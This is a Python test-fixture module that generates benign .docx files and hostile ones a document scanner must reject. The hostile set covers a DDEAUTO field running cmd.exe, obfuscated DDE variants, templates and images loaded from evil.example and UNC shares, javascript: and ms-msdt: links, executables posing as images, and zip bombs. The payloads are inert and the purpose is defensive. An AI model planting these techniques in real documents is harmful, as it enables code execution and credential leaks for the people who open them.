"""Honest and hostile .docx, each with a name: none of the first may be refused, each of the second must be."""

from __future__ import annotations

import re
from collections.abc import Callable
from functools import partial

from docx.document import Document
from docx.shared import Pt

from .doc_files import compound
from .office_files import (
    MAIN_TYPE,
    PROGRAM,
    RELATIONSHIPS,
    STORED,
    Item,
    W,
    document,
    edited,
    field,
    packed,
    paragraph,
    parts_of,
    plain,
    png,
    rich,
    with_body,
    with_chart,
    with_part,
    with_relationship,
    workbook,
    zipped,
)

Maker = Callable[[], bytes]
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
STRICT = (
    (
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    ),
    (
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    ),
)


def with_main_type(content_type: str) -> bytes:
    change = {"[Content_Types].xml": lambda types: types.replace(MAIN_TYPE.encode(), content_type.encode())}
    return edited(plain(), change)


def strict(content: bytes) -> bytes:
    """Return a document in the strict variant's namespaces."""
    parts = parts_of(content)
    for name in parts:
        for transitional, purl in STRICT:
            parts[name] = parts[name].replace(transitional, purl)
    return packed(parts)


def wide(content: bytes, names: tuple[str, ...] = ("word/document.xml",)) -> bytes:
    """Return a document with some parts in UTF-16."""

    def change(part: bytes) -> bytes:
        return re.sub(r"encoding=['\"][\w-]+['\"]", 'encoding="UTF-16"', part.decode()).encode("utf-16")

    return edited(content, dict.fromkeys(names, change))


def header(xml: str) -> bytes:
    """Return a document with markup in its header."""
    content = document(lambda made: setattr(made.sections[0].header.paragraphs[0], "text", "Kopf"))
    return with_body(xml, content, "word/header1.xml")


def comment(xml: str) -> bytes:
    content = document(lambda made: made.add_comment(made.paragraphs[0].runs, text="Bitte"))
    return with_body(xml, content, "word/comments.xml")


def notes(inside: str, name: str = "footnotes") -> bytes:
    """Return a document with footnotes or endnotes."""
    one = name[:-1]
    xml = f'<w:{name} xmlns:w="{W}" xmlns:r="{RELATIONSHIPS}"><w:{one} w:id="2">{inside}</w:{one}></w:{name}>'
    return with_part(f"word/{name}.xml", xml.encode(), f"{WORD}.{name}+xml", kind=name)


def hyperlink(target: str, mode: str = "External") -> bytes:
    return with_relationship("hyperlink", target, mode=mode)


def external(kind: str, target: str, source: str = "word/document.xml", mode: str = "External") -> bytes:
    return with_relationship(kind, target, source=source, mode=mode)


def styled(made: Document) -> None:
    made.add_paragraph("Liste", style="List Bullet").runs[0].font.size = Pt(20)
    made.add_page_break()
    made.add_section()


DRAWING = (
    '<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" Requires="wps">'
    "<w:drawing/></mc:Choice>"
    '<mc:Fallback><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" alt="Skizze des Bruchs"><v:textbox>'
    "<w:txbxContent><w:p><w:r><w:t>Im Kasten</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict>"
    "</mc:Fallback></mc:AlternateContent></w:r>"
)
EQUATION = (
    '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r><m:t>a=b²</m:t></m:r></m:oMath>'
)
CHANGES = (
    '<w:ins w:id="1" w:author="Paul Geheim" w:date="2024-01-01T00:00:00Z"><w:r><w:t>neu</w:t></w:r></w:ins>'
    '<w:del w:id="2" w:author="Paul Geheim"><w:r><w:delText>alt</w:delText></w:r></w:del>'
)
SVG = b'<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L9 9"/></svg>'
EMF = b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(100)
TEMPLATE = "file:///C:\\Users\\geheim\\AppData\\Roaming\\Microsoft\\Templates\\Brief.dotx"
SIGNED = partial(
    with_part,
    "_xmlsignatures/sig1.xml",
    b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
    "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml",
)

HONEST: dict[str, Maker] = {
    "plain": plain,
    "heading, table, pictures, header, footer, comment": lambda: document(rich),
    "lists, sections, breaks": lambda: document(styled),
    "tracked changes": lambda: with_body(paragraph(CHANGES)),
    "footnotes": lambda: notes(paragraph("<w:r><w:t>Fußnote</w:t></w:r>")),
    "endnotes": lambda: notes(paragraph("<w:r><w:t>Endnote</w:t></w:r>"), "endnotes"),
    "equation": lambda: with_body(paragraph(EQUATION)),
    "text box with fallback": lambda: with_body(paragraph(DRAWING)),
    "custom xml": lambda: with_part("customXml/item1.xml", b"<daten><ort>Jena</ort></daten>", "application/xml"),
    "custom xml called like commands": lambda: with_part(
        "customXml/item1.xml", b"<altChunk><control/><OLEObject/></altChunk>", "application/xml"
    ),
    "chart with its workbook": with_chart,
    "link to a page": lambda: hyperlink("https://example.com/a?b=c#d"),
    "link to a page, odd case": lambda: hyperlink("HTTP://EXAMPLE.COM"),
    "link to a mail": lambda: hyperlink("mailto:shop@example.com?subject=Lampe"),
    "link to a call": lambda: hyperlink("tel:+49361123456"),
    "link within": lambda: hyperlink("#_Toc1", ""),
    "link to a port": lambda: hyperlink("shop.example.com:8080/kasse"),
    "link without scheme": lambda: hyperlink("www.example.com/faq"),
    "link field": lambda: with_body(paragraph(field(' HYPERLINK "https://example.com/DDE" \\o "DDE" '))),
    "link field within": lambda: with_body(paragraph(field(' HYPERLINK \\l "DDEAUTO" '))),
    "page numbers and contents": lambda: header(paragraph(field(" PAGE ") + field(' TOC \\o "1-3" \\h \\z \\u '))),
    "field of a form letter": lambda: with_body(paragraph(field(" MERGEFIELD Name ") + field(" MACROBUTTON Kein x "))),
    "words about DDE": lambda: with_body(paragraph("<w:r><w:t>DDEAUTO ist ein Feld, LINK auch.</w:t></w:r>")),
    "picture of a mail": lambda: with_body(paragraph(field(' INCLUDEPICTURE "cid:bild@mail" \\* MERGEFORMATINET '))),
    "strict": lambda: strict(document(rich)),
    "template on the own disk": lambda: external("attachedTemplate", TEMPLATE, "word/settings.xml"),
    "template Normal.dotm": lambda: external("attachedTemplate", "Normal.dotm", "word/settings.xml"),
    "relationship to nothing": lambda: with_relationship("image", "NULL"),
    "UTF-16": lambda: wide(document(rich), ("word/document.xml", "word/_rels/document.xml.rels")),
    "embedded font": lambda: with_part(
        "word/fonts/font1.odttf", bytes(range(256)) * 9, "application/vnd.openxmlformats-officedocument.obfuscatedFont"
    ),
    "metafile": lambda: with_part("word/media/image9.emf", EMF, "image/x-emf", kind="image"),
    "compressed metafile": lambda: with_part("word/media/image9.wmz", b"\x1f\x8b\x08" + bytes(99), "image/x-wmz"),
    "drawing of Word for the Mac": lambda: with_part("word/media/image9.pdf", b"%PDF-1.4\n", "application/pdf"),
    "svg with a document type": lambda: with_part("word/media/image9.svg", SVG, "image/svg+xml", kind="image"),
    "broken picture": lambda: with_part("word/media/image9.png", png()[:60], "image/png", kind="image"),
    "svg without": lambda: with_part("word/media/i.svg", SVG.replace(b"<!DOCTYPE svg>", b""), "image/svg+xml"),
    "printer settings": lambda: with_part(
        "word/printerSettings/printerSettings1.bin", b"H\0P\0" * 50, f"{WORD}.printerSettings"
    ),
    "stored entries": lambda: packed(parts_of(document(rich)), method=STORED),
    "streamed, as made by Google": lambda: packed(parts_of(document(rich)), streamed=True),
    "zip64": lambda: packed(parts_of(document(rich)), wide=True),
    "part called like a town": lambda: with_part("word/media/Größe.png", png(), "image/png", kind="image"),
    "other order of entries": lambda: packed(dict(reversed(parts_of(document(rich)).items()))),
    "macro type declared, no macro": lambda: edited(
        plain(),
        {
            "[Content_Types].xml": lambda types: types.replace(
                b"</Types>", f'<Default Extension="vba" ContentType="{VBA_TYPE}"/></Types>'.encode()
            )
        },
    ),
    "smart art": lambda: with_part(
        "word/diagrams/data1.xml",
        b'<a:p xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:r><a:t>Kreislauf</a:t></a:r></a:p>',
        "application/vnd.openxmlformats-officedocument.drawingml.diagramData+xml",
    ),
    "signed": SIGNED,
    "protected against editing": lambda: with_body(
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>', part="word/settings.xml"
    ),
    "without properties": lambda: packed(
        {name: data for name, data in parts_of(plain()).items() if not name.startswith("docProps")}
        | {"_rels/.rels": re.sub(rb"<Relationship [^>]*docProps[^>]*>", b"", parts_of(plain())["_rels/.rels"])}
    ),
}

DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
VML = '<w:r><w:pict><v:{} xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict></w:r>'
OBJECT = '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="{}"/></w:object></w:r>'
VIDEO = (
    '<w:r><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
    'embeddedHtml="&lt;iframe src=x&gt;"/></w:r>'
)
DOCTYPE = b'<!DOCTYPE w [<!ENTITY x "y">]>'
EVIL = "https://evil.example/x"


def declared(part: bytes) -> bytes:
    return re.sub(rb"^(<\?xml[^>]*\?>)?", rb"\1" + DOCTYPE, part, count=1)


def quoted(word: str) -> str:
    """Return a field inside a field that spells a word by its characters' codes."""
    codes = " ".join(str(ord(letter)) for letter in word)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE {codes} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd.exe </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def nested(outer: str, inner_result: str) -> str:
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{field(" REF x ", result=inner_result)}'
        f'<w:r><w:instrText>{outer}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


HOSTILE: dict[str, tuple[str, Maker]] = {
    # macros
    "vba project": ("macros", lambda: with_part("word/vbaProject.bin", b"x", VBA_TYPE, kind=f"{MICROSOFT}/vbaProject")),
    "vba project under another name": ("macros", lambda: with_part("word/media/image9.bin", b"x", VBA_TYPE)),
    "vba project that nothing names": ("macros", lambda: with_part("word/vbaProject.bin", b"x", "image/png")),
    "vba relationship": ("macros", lambda: with_relationship(f"{MICROSOFT}/vbaProject", "media/x.png")),
    "vba data": ("macros", lambda: with_part("word/vbaData.xml", b"<x/>", "application/vnd.ms-word.vbaData+xml")),
    "docm renamed": ("macros", lambda: with_main_type("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "dotm renamed": (
        "macros",
        lambda: with_main_type("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
    ),
    "ActiveX": (
        "macros",
        lambda: with_part("word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
    ),
    "ActiveX binary": ("macros", lambda: with_part("word/activeX/activeX1.bin", b"x", "application/octet-stream")),
    "control": ("macros", lambda: with_body(paragraph('<w:r><w:object><w:control r:id="rId1"/></w:object></w:r>'))),
    "control relationship": ("macros", lambda: with_relationship("control", "x.xml")),
    "ribbon with commands": (
        "macros",
        lambda: with_relationship(f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml", source=""),
    ),
    "macros in a chart's workbook": (
        "macros",
        lambda: with_chart(workbook({"xl/vbaProject.bin": b"x"})),
    ),
    "old macro sheet in a chart's workbook": (
        "macros",
        lambda: with_chart(
            workbook(
                {"xl/macro.xml": b"<x/>"},
                '<Override PartName="/xl/macro.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
            )
        ),
    ),
    # objects
    "OLE object": (
        "embedded_object",
        lambda: with_part("word/embeddings/oleObject1.bin", b"x", OLE_TYPE, kind="oleObject"),
    ),
    "OLE file as a picture": (
        "embedded_object",
        lambda: with_part("word/media/image9.png", compound({"x": b"y"}), "image/png"),
    ),
    "OLE element": ("embedded_object", lambda: with_body(paragraph(OBJECT.format("Embed")))),
    "package": ("embedded_object", lambda: with_part("word/embeddings/a.xlsx", workbook(), "x/y", kind="package")),
    "program": ("embedded_object", lambda: with_part("word/embeddings/setup.exe", PROGRAM, "application/octet-stream")),
    "program as a picture": ("embedded_object", lambda: with_part("word/media/image9.png", PROGRAM, "image/png")),
    "program behind a picture": (
        "embedded_object",
        lambda: with_part("word/media/i9.png", png() + PROGRAM, "image/png"),
    ),
    "Linux program": (
        "embedded_object",
        lambda: with_part("word/media/image9.emf", b"\x7fELF\2\1\1" + bytes(90), "image/x-emf"),
    ),
    "shortcut": ("embedded_object", lambda: with_part("word/media/i.bin", b"L\0\0\0\1\x14\2\0" + bytes(90), "x/y")),
    "script": ("embedded_object", lambda: with_part("word/run.vbs", b'MsgBox "x"', "text/plain")),
    "zip in the document": ("embedded_object", lambda: with_part("word/media/a.bin", zipped([Item("a", b"b")]), "x/y")),
    "document in the document": ("embedded_object", lambda: with_part("word/media/a.png", plain(), "image/png")),
    "chunk": ("embedded_object", lambda: with_part("word/a.html", b"<html/>", "text/html", kind="aFChunk")),
    "chunk element": ("embedded_object", lambda: with_body('<w:altChunk r:id="rId1"/>')),
    "chunk element, strict": ("embedded_object", lambda: strict(with_body('<w:altChunk r:id="rId1"/>'))),
    "RTF in the document": ("embedded_object", lambda: with_part("word/afchunk.dat", b"{\\rtf1}", "x/y")),
    "chart's workbook is a binary one": (
        "embedded_object",
        lambda: with_chart(name="word/embeddings/x.xlsb", data=b"PK"),
    ),
    "chart's workbook is a program": ("embedded_object", lambda: with_chart(PROGRAM)),
    "chart's workbook holds an object": (
        "embedded_object",
        lambda: with_chart(workbook({"xl/embeddings/oleObject1.bin": b"x"})),
    ),
    "script in a drawing": (
        "embedded_object",
        lambda: with_part("word/media/i.svg", SVG.replace(b"<path", b"<script>x</script><path"), "image/svg+xml"),
    ),
    "command in a drawing": (
        "embedded_object",
        lambda: with_part("word/media/i.svg", SVG.replace(b"<path", b'<path onclick="x()"'), "image/svg+xml"),
    ),
    # DDE
    "DDE field": ("dde", lambda: with_body(paragraph(field(DDE)))),
    "DDE in pieces": ("dde", lambda: with_body(paragraph(field(" D", "DE", "AU", "TO c:\\\\x")))),
    "DDE in a simple field": ("dde", lambda: with_body(paragraph('<w:fldSimple w:instr=" dde Excel x y "/>'))),
    "DDE in a header": ("dde", lambda: header(paragraph(field(DDE)))),
    "DDE in a comment": ("dde", lambda: comment(paragraph(field(DDE.lower())))),
    "DDE in a footnote": ("dde", lambda: notes(paragraph(field(DDE)))),
    "DDE in an endnote": ("dde", lambda: notes(paragraph(field(DDE)), "endnotes")),
    "DDE in deleted text": (
        "dde",
        lambda: with_body(paragraph(field("x").replace("instrText", "delInstrText").replace(">x<", ">DDEAUTO x<"))),
    ),
    "DDE in a field in a field": ("dde", lambda: with_body(paragraph(nested(" y ", "DDEAUTO")))),
    "DDE inside a harmless field": (
        "dde",
        lambda: with_body(paragraph(field(" IF 1 = 1 </w:instrText></w:r>" + field(DDE) + "<w:r><w:instrText> "))),
    ),
    "DDE by codes": ("dde", lambda: with_body(paragraph(quoted("DDEAUTO")))),
    "DDE over paragraphs": (
        "dde",
        lambda: with_body(
            paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>')
            + paragraph('<w:r><w:instrText>AUTO x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
        ),
    ),
    "DDE never ended": (
        "dde",
        lambda: with_body(
            paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE x</w:instrText></w:r>')
        ),
    ),
    "DDE in UTF-16": ("dde", lambda: wide(with_body(paragraph(field(DDE))))),
    "DDE, strict": ("dde", lambda: strict(with_body(paragraph(field(DDE))))),
    "DDE in a chart's workbook": (
        "dde",
        lambda: with_chart(
            workbook({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"})
        ),
    ),
    # elsewhere
    "template from the net": (
        "external_target",
        lambda: external("attachedTemplate", f"{EVIL}.dotm", "word/settings.xml"),
    ),
    "template from a server": (
        "external_target",
        lambda: external("attachedTemplate", "\\\\evil\\share\\x.dotm", "word/settings.xml"),
    ),
    "template by file: from a server": (
        "external_target",
        lambda: external("attachedTemplate", "file://evil/share/x.dotm", "word/settings.xml"),
    ),
    "template by file: with slashes": (
        "external_target",
        lambda: external("attachedTemplate", "file:////evil/share/x.dotm", "word/settings.xml"),
    ),
    "template, odd mode": (
        "external_target",
        lambda: external("attachedTemplate", EVIL, "word/settings.xml", " EXTERNAL "),
    ),
    "template, mode left out": ("external_target", lambda: external("attachedTemplate", EVIL, "word/settings.xml", "")),
    "template in UTF-16": (
        "external_target",
        lambda: wide(external("attachedTemplate", EVIL, "word/settings.xml"), ("word/_rels/settings.xml.rels",)),
    ),
    "picture from the net": ("external_target", lambda: external("image", f"{EVIL}.png")),
    "picture from the disk": ("external_target", lambda: external("image", "file:///C:/x.png", mode="external")),
    "object from the net": ("external_target", lambda: external("oleObject", f"{EVIL}!x-usc:{EVIL}")),
    "frame": ("external_target", lambda: external("frame", EVIL, "word/webSettings.xml")),
    "sub-document": ("external_target", lambda: external("subDocument", "teil2.docx")),
    "sub-document element": ("external_target", lambda: with_body('<w:subDoc r:id="rId1"/>')),
    "mail merge source": (
        "external_target",
        lambda: external("mailMergeSource", "file:///C:/a.csv", "word/settings.xml"),
    ),
    "relationship of a part that nothing uses": ("external_target", lambda: external("image", EVIL, "customXml/x.xml")),
    "relationship of the package": ("external_target", lambda: external("image", EVIL, "")),
    "linked object element": ("external_target", lambda: with_body(paragraph(OBJECT.format("Link")))),
    "web video": ("external_target", lambda: with_body(paragraph(VIDEO))),
    "web extension": (
        "external_target",
        lambda: external("http://x/2011/relationships/webextension", "w.xml", mode=""),
    ),
    "picture by address": ("external_target", lambda: with_body(paragraph(VML.format("imagedata", f'src="{EVIL}"')))),
    "shape leads to a server": (
        "external_target",
        lambda: with_body(paragraph(VML.format("rect", 'href="\\\\evil\\x.exe"'))),
    ),
    "link to a file": ("external_target", lambda: hyperlink("file:///C:/Windows/System32/calc.exe")),
    "link to a drive": ("external_target", lambda: hyperlink("C:\\Windows\\calc.exe")),
    "link to a server": ("external_target", lambda: hyperlink("\\\\evil\\share\\x.lnk")),
    "link to a script": ("external_target", lambda: hyperlink("java\tscript:alert(1)")),
    "link to a script, escaped": ("external_target", lambda: hyperlink("java%73cript:alert(1)")),
    "link to a tool of Windows": ("external_target", lambda: hyperlink("ms-msdt:/id PCWDiagnostic")),
    "link to a search": ("external_target", lambda: hyperlink("search-ms:query=x&amp;crumb=location:\\\\evil")),
    "link field to a server": (
        "external_target",
        lambda: with_body(paragraph(field(' HYPERLINK "\\\\\\\\evil\\\\x" '))),
    ),
    "link field to a file": ("external_target", lambda: header(paragraph(field(" HYPERLINK file:///c:/x.exe ")))),
    "picture field": ("external_target", lambda: with_body(paragraph(field(f' INCLUDEPICTURE "{EVIL}" \\d ')))),
    "picture field in a header": (
        "external_target",
        lambda: header(paragraph(field(" INCLUDEPICTURE \\d ", f'"{EVIL}"'))),
    ),
    "text field": ("external_target", lambda: with_body(paragraph(field(' INCLUDETEXT "c:\\\\secret.txt" ')))),
    "text field whose path looks like formatting": (
        "external_target",
        lambda: with_body(paragraph(field(' INCLUDETEXT \\* MERGEFORMAT "x.txt" '))),
    ),
    "link to a workbook": ("external_target", lambda: notes(paragraph(field(' LINK Excel.Sheet.12 "c:\\\\x.xlsx" ')))),
    "workbook behind a chart's workbook": (
        "external_target",
        lambda: with_chart(
            workbook(links=f'<Relationship Id="r" Type="{RELATIONSHIPS}/externalLinkPath" Target="{EVIL}"/>')
        ),
    ),
    # other kinds, damaged, passwords
    "template renamed": ("mismatch", lambda: with_main_type(f"{WORD}.template.main+xml")),
    "workbook renamed": ("mismatch", workbook),
    "zip renamed": ("mismatch", lambda: zipped([Item("word/document.xml", b"<x/>"), Item("a.txt", b"x")])),
    "OpenDocument renamed": (
        "mismatch",
        lambda: zipped(
            [Item("mimetype", b"application/vnd.oasis.opendocument.text", STORED), Item("content.xml", b"<x/>")]
        ),
    ),
    "other OLE file": ("mismatch", lambda: compound({"WordDocument": b"x" * 5000})),
    "RTF renamed": ("mismatch", lambda: b"{\\rtf1 Guten Tag}"),
    "password": ("password", lambda: compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 200})),
    "rights management": (
        "password",
        lambda: compound({"\x06DataSpaces": {"Version": b"x" * 70}, "EncryptedPackage": b"y" * 100}),
    ),
    "zip with a password": ("password", lambda: zipped([Item("[Content_Types].xml", b"x" * 40, STORED, flags=1)])),
    "entities": ("damaged", lambda: edited(plain(), {"word/document.xml": declared})),
    "entities in the relationships": ("damaged", lambda: edited(plain(), {"word/_rels/document.xml.rels": declared})),
    "entities in custom data": ("damaged", lambda: with_part("customXml/i.xml", DOCTYPE + b"<w/>", "application/xml")),
    "document cut": ("damaged", lambda: edited(plain(), {"word/document.xml": lambda part: part[:-50]})),
    "no document": (
        "damaged",
        lambda: packed({n: d for n, d in parts_of(plain()).items() if n != "word/document.xml"}),
    ),
    "not Word's markup": ("damaged", lambda: edited(plain(), {"word/document.xml": lambda part: b"<buch/>"})),
    "file cut": ("damaged", lambda: document(rich)[:-3000]),
    "not Word's markup, strict": (
        "damaged",
        lambda: edited(strict(plain()), {"word/document.xml": lambda part: b"<buch/>"}),
    ),
    "two main documents": (
        "damaged",
        lambda: with_relationship("officeDocument", "word/document.xml", source=""),
    ),
    "stub in front": ("polyglot", lambda: packed(parts_of(plain()), stub=b"%!PS" + bytes(90))),
    "PDF behind": ("polyglot", lambda: plain() + b"%PDF-1.4\n%%EOF"),
    "PDF in the first entry": ("polyglot", lambda: zipped([Item("x", b"%PDF-1.4", STORED)])),
    "bomb": ("unpacks_too_large", lambda: packed(parts_of(plain()) | {"word/media/x.bmp": bytes(110 * 1024 * 1024)})),
    "bomb of spaces": (
        "unpacks_too_large",
        lambda: edited(plain(), {"word/document.xml": lambda part: part + b" " * 60_000_000}),
    ),
    "bomb in a chart's workbook": ("unpacks_too_large", lambda: with_chart(workbook({"xl/x.bin": bytes(40_000_000)}))),
}
